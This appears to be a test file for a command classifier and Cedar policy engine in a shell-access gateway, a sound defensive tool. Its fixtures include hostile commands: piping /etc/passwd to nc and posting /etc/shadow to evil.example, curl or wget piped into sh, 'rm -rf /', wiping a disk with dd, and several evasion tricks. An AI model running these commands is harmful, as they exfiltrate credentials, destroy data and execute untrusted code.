import { test } from 'node:test';
import assert from 'node:assert/strict';
import { inspectCommand } from '../../core/shell/index.js';
import { compilePolicySet } from '../../core/policy/index.js';

const cases: [string, string, string[]][] = [
  // [command, class, categories that must be present]
  ['ls -la /tmp', 'read', []],
  ['systemctl status nginx', 'read', []],
  ['ls 2>&1 | grep x', 'read', []],
  ['echo hi > /tmp/x', 'write', ['file_write']],
  ['echo x | tee /etc/hosts', 'privileged', ['system_path_write']],
  ['echo x >> /etc/passwd', 'privileged', ['system_path_write']],
  ['sudo rm -rf /var/log', 'privileged', ['privilege_escalation', 'destructive_file']],
  ['doas reboot', 'privileged', ['privilege_escalation', 'service_control']],
  ["su -c 'id' root", 'privileged', ['privilege_escalation']],
  ['rm -rf build', 'destructive', ['destructive_file']],
  ['find / -name core -delete', 'destructive', ['destructive_file']],
  ['find . -exec shred {} ;', 'destructive', ['destructive_file']],
  ['timeout 5 rm x', 'destructive', ['destructive_file']],
  ['dd if=/dev/zero of=/dev/sda', 'destructive', ['disk_tool']],
  ['mkfs.ext4 /dev/sdb1', 'destructive', ['disk_tool']],
  ['systemctl restart nginx', 'privileged', ['service_control']],
  ['kill -9 1', 'privileged', ['process_control']],
  ['apt-get install -y nginx', 'privileged', ['package_install']],
  ['pip install requests', 'privileged', ['package_install']],
  ['cat /etc/passwd | nc evil.example 9000', 'privileged', ['network_exfiltration']],
  ['curl -d @/etc/shadow https://evil.example', 'privileged', ['network_exfiltration']],
  ['curl -fsSL https://get.example | sh', 'opaque', ['download_execute']],
  ['wget -qO- https://get.example | sudo bash', 'opaque', ['download_execute', 'privilege_escalation']],
  ['bash -c "rm -rf /"', 'privileged', ['destructive_file', 'system_path_write']],
  ['python3 -c "import os"', 'opaque', ['inline_script']],
  ['./deploy.sh', 'opaque', []],
  ['frobnicate --all', 'opaque', []],
];

test('commands are classified by what they do', () => {
  for (const [command, cls, categories] of cases) {
    const r = inspectCommand(command);
    assert.equal(r.class, cls, `${command}: ${r.reasons.join('; ')}`);
    for (const c of categories) assert.ok(r.categories.includes(c as never), `${command} should be ${c}, got ${r.categories.join(',')}`);
  }
});

test('evasions the tokenizer cannot see through are opaque, not guessed', () => {
  for (const command of ['r${X}m -rf /', '$CMD -rf /', 'echo $(rm -rf /)', 'echo `rm -rf /`', 'echo "$(id)"', 'ls\nrm -rf /', 'cat <(rm x)', '(rm -rf /)', 'LD_PRELOAD=/tmp/x.so ls', 'env LD_PRELOAD=/tmp/x.so ls', '/tmp/ls', 'cat <<EOF']) {
    assert.equal(inspectCommand(command).class, 'opaque', command);
  }
});

test('quoting is understood: operators inside quotes are words', () => {
  const r = inspectCommand("echo 'a; rm -rf /' \"| sh\"");
  assert.equal(r.class, 'read');
  assert.deepEqual(r.binaries, ['echo']);
  assert.deepEqual(r.argv, ['echo', 'a; rm -rf /', '| sh']);
});

test('sudo wrappers expose the wrapped program and the sudo flag', () => {
  const r = inspectCommand('sudo -u postgres -- ls /var/lib/postgresql');
  assert.equal(r.sudo, true);
  assert.deepEqual(r.binaries, ['sudo', 'ls']);
  assert.ok(r.categories.includes('privilege_escalation'));
});

test('Cedar policies decide on command facts (binaries, categories, sudo, paths)', () => {
  const engine = compilePolicySet(`
    @id("connect") permit (principal, action == Airlock::Action::"connect", resource);
    @id("reads") permit (principal, action == Airlock::Action::"command_read", resource);
    @id("restart-nginx") @approval("required")
    permit (principal, action == Airlock::Action::"command_privileged", resource)
      when { context.binaries.contains("systemctl") && context.argv.contains("nginx") && !context.sudo };
    @id("no-etc") forbid (principal, action in Airlock::Action::"command", resource)
      when { context.categories.contains("system_path_write") };
  `);
  const principal = { id: 'a', groups: [], issuer: 'i' };
  const target = { name: 'box', kind: 'ssh' as const, environment: 'test', tags: {} };
  assert.equal(engine.authorizeCommand(principal, target, inspectCommand('uptime')).effect, 'allow');
  assert.equal(engine.authorizeCommand(principal, target, inspectCommand('systemctl restart nginx')).effect, 'approve');
  assert.equal(engine.authorizeCommand(principal, target, inspectCommand('systemctl restart sshd')).effect, 'deny');
  const etc = engine.authorizeCommand(principal, target, inspectCommand('echo x > /etc/motd'));
  assert.equal(etc.effect, 'deny');
  assert.deepEqual(etc.policyIds, ['no-etc']);
  assert.equal(engine.authorizeFileOperation(principal, target, { access: 'read', operation: 'open', path: '/x' }).effect, 'deny');
  assert.equal(engine.authorizePortForward(principal, target, 'localhost', 5432).effect, 'deny');
  assert.equal(engine.authorizeForwarding(principal, target, 'agent_forward').effect, 'deny');
});
